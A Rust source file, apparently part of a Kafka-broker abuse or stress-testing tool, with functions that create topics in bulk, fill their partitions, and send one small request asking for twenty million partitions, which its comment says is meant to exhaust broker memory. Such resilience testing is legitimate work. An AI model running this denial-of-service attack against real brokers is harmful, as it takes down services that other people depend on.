//! Topics for attacks: made by the thousand, and filled. And the attack that wants more partitions of them than there is
//! memory for.

use bytes::Bytes;
use futures::FutureExt;
use futures::future::BoxFuture;
use protocol::ErrorCode;
use protocol::messages::create_partitions::CreatePartitionsTopic;
use protocol::messages::create_topics::{CreatableTopic, CreatableTopicConfig};
use protocol::messages::{CreatePartitionsRequest, CreateTopicsRequest, ProduceRequest};

use crate::abuse::good::Target;
use crate::abuse::manners::{Attack, FirstError, asks};
use crate::client;
use crate::produce;

const CREATE_VERSION: i16 = 5;
const PARTITIONS_VERSION: i16 = 2;
const PRODUCE_VERSION: i16 = 9;
/// In one request: brokers take no more.
const TOPICS_AT_ONCE: usize = 200;
const PARTITIONS_AT_ONCE: usize = 10_000;

/// One topic with these settings.
pub(in crate::abuse) async fn create(
    target: &Target,
    name: &str,
    partitions: i32,
    configs: &[(&str, &str)],
) -> anyhow::Result<()> {
    create_all(target, &[name.to_owned()], partitions, configs).await
}

/// Many, as many in a request as brokers take.
pub(super) async fn create_all(
    target: &Target,
    names: &[String],
    partitions: i32,
    configs: &[(&str, &str)],
) -> anyhow::Result<()> {
    let mut connection = client::connect(&target.kafka).await?;
    let at_once = PARTITIONS_AT_ONCE / usize::try_from(partitions)?;
    let configs: Vec<_> = configs
        .iter()
        .map(|(name, value)| CreatableTopicConfig {
            name: (*name).to_owned(),
            value: Some((*value).to_owned()),
        })
        .collect();
    for some in names.chunks(at_once.clamp(1, TOPICS_AT_ONCE)) {
        let topic = |name: &String| CreatableTopic {
            name: name.clone(),
            num_partitions: partitions,
            replication_factor: 1,
            configs: configs.clone(),
            ..Default::default()
        };
        let request = CreateTopicsRequest {
            topics: some.iter().map(topic).collect(),
            timeout_ms: 60_000,
            ..Default::default()
        };
        let created = client::ask(&mut connection, CREATE_VERSION, &request).await?;
        let mut topics = created.topics.iter();
        if let Some(refused) = topics.find(|topic| topic.error_code != ErrorCode::NONE) {
            anyhow::bail!("cannot create {}: {}", refused.name, refused.error_code);
        }
    }
    Ok(())
}

/// The same batch in each of the partitions.
pub(in crate::abuse) async fn fill(
    target: &Target,
    topic: &str,
    partitions: i32,
    batch: &Bytes,
) -> anyhow::Result<()> {
    let mut connection = client::connect(&target.kafka).await?;
    for partition in 0..partitions {
        let request = produce::request(topic, partition, batch.clone());
        let answer = client::ask::<ProduceRequest>(&mut connection, PRODUCE_VERSION, &request);
        let error = answer.await?.first_error();
        anyhow::ensure!(error == ErrorCode::NONE, "cannot fill {topic}: {error}");
    }
    Ok(())
}

/// So many of them.
pub(super) fn names(count: usize) -> Vec<String> {
    (0..count).map(|number| format!("t{number:06}")).collect()
}

/// Two hundred topics that are to have a hundred thousand partitions each, in 2.7 KB.
pub(in crate::abuse) fn twenty_million_partitions(
    target: &Target,
) -> BoxFuture<'_, anyhow::Result<Vec<Attack>>> {
    async {
        let names = names(200);
        create_all(target, &names, 1, &[]).await?;
        let topic = |name: String| CreatePartitionsTopic {
            name,
            count: 100_000,
            assignments: None,
        };
        let request = CreatePartitionsRequest {
            topics: names.into_iter().map(topic).collect(),
            timeout_ms: 60_000,
            validate_only: false,
        };
        let attack = asks(2, &target.kafka, PARTITIONS_VERSION, &[request]);
        Ok(vec![attack])
    }
    .boxed()
}
